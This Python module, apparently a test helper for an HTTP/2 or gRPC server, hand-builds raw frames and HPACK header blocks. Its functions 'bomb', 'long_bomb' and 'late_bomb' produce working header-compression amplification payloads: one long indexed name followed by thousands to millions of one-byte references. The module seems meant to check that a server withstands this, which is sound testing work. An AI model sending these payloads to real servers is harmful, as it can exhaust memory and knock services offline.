"""HTTP/2 as no client library would speak it: bytes of frames and header blocks (RFC 9113, 7541),
written out by hand.
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4

FIRST_OF_THE_TABLE = b"\xbe"
"""Refers to the header that was put into the table last: one byte."""
NAME_BYTES = 3_900
"""With an empty value and the 32 bytes that count for each entry, just within a table of 4,096."""


def frame(kind: int, body: bytes = b"", stream: int = 0, flags: int = 0) -> bytes:
    return (
        struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
    )


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A header with its name and value written out; `indexed`: it enters the table."""
    return bytes([0x40 if indexed else 0]) + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    return _integer(len(text)) + text


def _integer(number: int) -> bytes:
    """With a prefix of seven bits."""
    if number < 127:
        return bytes([number])
    out, number = [127], number - 127
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


def call(path: str) -> bytes:
    """The headers with which a call begins, without a token."""
    post_over_http = b"\x83\x86"
    return post_over_http + b"".join(
        literal(name, value)
        for name, value in (
            (b":path", path.encode()),
            (b":authority", b"x"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


def _long_name() -> bytes:
    return literal(b"a" * NAME_BYTES, b"", indexed=True)


def bomb(path: str, stream: int) -> bytes:
    """A block of headers: a long name, and thousands of references of a byte to it."""
    block = call(path) + _long_name() + FIRST_OF_THE_TABLE * 4_200
    return frame(HEADERS, block, stream, END_HEADERS)


def long_bomb(path: str, stream: int) -> bytes:
    """The same in many frames: 3 million references."""
    more = [frame(CONTINUATION, FIRST_OF_THE_TABLE * 16_000, stream) for _ in range(200)]
    last = frame(CONTINUATION, FIRST_OF_THE_TABLE, stream, END_HEADERS)
    return b"".join([frame(HEADERS, call(path) + _long_name(), stream), *more, last])


def late_bomb(path: str, stream: int) -> bytes:
    """The same as the trailers of a call, which begins as it should."""
    block = _long_name() + FIRST_OF_THE_TABLE * 4_200
    return (
        frame(HEADERS, call(path), stream, END_HEADERS)
        + frame(DATA, b"\0\0\0\0\0", stream)
        + frame(HEADERS, block, stream, END_HEADERS | END_STREAM)
    )


def kinds(heard: bytes) -> list[int]:
    """Of the whole frames that have come."""
    found, at = [], 0
    while at + 9 <= len(heard):
        found.append(heard[at + 3])
        at += 9 + int.from_bytes(heard[at : at + 3], "big")
    return found


class Peer:
    """A connection that has said its preface and settings, and reads what comes."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard = b""
        self._reader = reader
        self._writer = writer
        self._listening = asyncio.create_task(self._listen())

    async def _listen(self) -> None:
        with suppress(ConnectionError):
            while piece := await self._reader.read(65_536):
                self.heard += piece

    @property
    def ended(self) -> bool:
        """Whether the other side has ended the connection."""
        return self._listening.done()

    async def say(self, some: bytes) -> None:
        """Raises `ConnectionError` where it is over."""
        self._writer.write(some)
        await self._writer.drain()

    async def close(self) -> None:
        self._writer.close()
        with suppress(ConnectionError):
            await self._writer.wait_closed()
        await self._listening


@asynccontextmanager
async def peer(address: str) -> AsyncIterator[Peer]:
    """host:port."""
    host, _, port = address.rpartition(":")
    made = Peer(*await asyncio.open_connection(host, int(port)))
    try:
        await made.say(PREFACE + frame(SETTINGS))
        yield made
    finally:
        await made.close()
